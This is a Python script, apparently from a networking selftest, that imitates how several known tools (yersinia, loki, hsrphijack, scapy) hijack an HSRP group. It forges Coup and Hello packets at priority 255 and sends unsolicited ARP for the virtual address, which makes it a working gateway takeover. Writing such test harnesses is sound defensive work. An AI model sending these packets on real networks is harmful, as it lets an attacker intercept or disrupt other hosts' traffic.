#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Say what the known tools say that take a group over, as they say it.

attackers.py DEV TOOL SECONDS SRC VIP GROUP AUTH

Runs in the attacker's namespace, whose own address is SRC. AUTH is the text that
the tool has heard, or took for granted; "" where it heard a group with MD5. Prints
how many HSRP datagrams were sent. The octets are written down here and are made by
nothing that the other tests use. The tools, by what their sources and captures of
them say:

  yersinia     "becoming ACTIVE router": repeats what it heard, with priority 255:
               a Coup of state Speak, then Hellos of state Active every hello time
               and a second; from the MAC address it heard, the virtual one; TOS
               0x10
  loki         a Hello of state Active and priority 255 each second, without a UDP
               checksum, and in the first seconds ARP of the virtual address
  loki2        the same in version 2; of MD5 it leaves the TLV out
  hsrphijack   a Coup of state Active, then Hellos every hello time; ARP, which
               says that the virtual address is at its own MAC address
  hsrphijack2  the same in version 2, without the Coup; the text is always "cisco"
  scapy        sendp(HSRP(priority=255, ...), inter=3, loop=1): TTL 64, from the
               virtual MAC address; the text is always "cisco"
"""
import socket
import struct
import sys
import time

HELLO, HOLD = 3, 10
COUP, SPEAK, ACTIVE, ACTIVE2 = 1, 4, 16, 6
MAC1, MAC2 = b"\x01\x00\x5e\x00\x00\x02", b"\x01\x00\x5e\x00\x00\x66"
UPLINKFAST = b"\x01\x00\x0c\xcd\xcd\xcd"
BROADCAST = b"\xff" * 6
CISCO = b"cisco\0\0\0"


def inet_sum(data):
    """RFC 1071"""
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H",
                              data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xffff)
    return 0xffff ^ (total + (total >> 16) & 0xffff)


class Attacker:
    """One tool against one group."""

    def __init__(self, dev, src, vip, group, auth):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((dev, 0))
        self.mac = self.sock.getsockname()[4]
        self.src, self.vip = socket.inet_aton(src), socket.inet_aton(vip)
        self.group = group
        self.auth = auth.encode().ljust(8, b"\0")
        self.sent = 0

    def version1(self, opcode, state, auth):
        """The 20 octets."""
        return (bytes([0, opcode, state, HELLO, HOLD, 255, self.group, 0]) +
                auth + self.vip)

    def version2(self, auth):
        """A Hello: Group State, and text where there is some."""
        return (b"\x01\x28\x02\x00" + bytes([ACTIVE2, 4]) +
                struct.pack("!H", self.group) + self.mac +
                struct.pack("!III", 255, 1000 * HELLO, 1000 * HOLD) +
                self.vip + b"\0" * 12 +
                (b"\x03\x08" + auth if auth.strip(b"\0") else b""))

    def say(self, dmac, smac, message, **how):
        """A datagram."""
        dst = b"\xe0\0\0" + dmac[5:]
        udp = struct.pack("!HHHH", 1985, 1985, 8 + len(message), 0)
        if how.get("checksum", True):
            check = inet_sum(self.src + dst + b"\0\x11" + udp[4:6] + udp +
                             message) or 0xffff
            udp = udp[:6] + struct.pack("!H", check)
        ip = (bytes([0x45, how.get("tos", 0)]) +
              struct.pack("!HHH", 28 + len(message), how.get("ident", 0), 0) +
              bytes([how.get("ttl", 1), 17, 0, 0]) + self.src + dst)
        ip = ip[:10] + struct.pack("!H", inet_sum(ip)) + ip[12:]
        self.sock.send(dmac + smac + b"\x08\x00" + ip + udp + message)
        self.sent += 1

    def arp(self, dmac, mac):
        """The virtual address is at that MAC address, unasked."""
        self.sock.send(dmac + mac + b"\x08\x06\0\x01\x08\0\x06\x04\0\x02" +
                       mac + self.vip + dmac + self.vip)

    # Each of these is a run of the tool: it yields how long it waits

    def yersinia(self):
        """From what it heard of the Active"""
        heard = b"\x00\x00\x0c\x07\xac" + bytes([self.group])
        self.say(MAC1, heard, self.version1(COUP, SPEAK, self.auth), tos=16)
        yield HELLO
        while True:
            self.say(MAC1, heard, self.version1(0, ACTIVE, self.auth), tos=16)
            yield HELLO + 1

    def loki(self):
        """With its own addresses"""
        yield from self.lokis(MAC1, self.version1(0, ACTIVE, self.auth),
                              b"\x00\x00\x0c\x07\xac" + bytes([self.group]))

    def loki2(self):
        """Version 2"""
        yield from self.lokis(MAC2, self.version2(self.auth),
                              b"\x00\x00\x0c\x9f\xf0" + bytes([self.group]))

    def lokis(self, dmac, message, virtual):
        """Either version"""
        arps = 3
        while True:
            self.say(dmac, self.mac, message, checksum=False)
            if arps:
                self.arp(BROADCAST, virtual)
                self.arp(UPLINKFAST, virtual)
                arps -= 1
            yield 1

    def hsrphijack(self):
        """With its own addresses, lest a switch notices"""
        yield from self.hijacks(MAC1, self.version1(COUP, ACTIVE, self.auth),
                                self.version1(0, ACTIVE, self.auth))

    def hsrphijack2(self):
        """Version 2"""
        hello = self.version2(CISCO)
        yield from self.hijacks(MAC2, hello, hello)

    def hijacks(self, dmac, first, hello):
        """Either version"""
        self.say(dmac, self.mac, first, ident=1)
        self.arp(BROADCAST, self.mac)
        self.arp(UPLINKFAST, self.mac)
        yield HELLO
        self.say(dmac, self.mac, hello, ident=1)
        self.arp(BROADCAST, self.mac)
        yield HELLO
        while True:
            self.say(dmac, self.mac, hello, ident=1)
            yield HELLO

    def scapy(self):
        """One line"""
        virtual = b"\x00\x00\x0c\x07\xac" + bytes([self.group])
        while True:
            self.say(MAC1, virtual, self.version1(0, ACTIVE, CISCO), ttl=64,
                     ident=1)
            yield HELLO


def main():
    """Plays one tool for so long"""
    dev, tool, seconds, src, vip, group, auth = sys.argv[1:]
    attacker = Attacker(dev, src, vip, int(group), auth)
    end = time.monotonic() + float(seconds)
    for wait in getattr(attacker, tool)():
        if time.monotonic() + wait > end:
            break
        time.sleep(wait)
    print(attacker.sent)


if __name__ == "__main__":
    main()
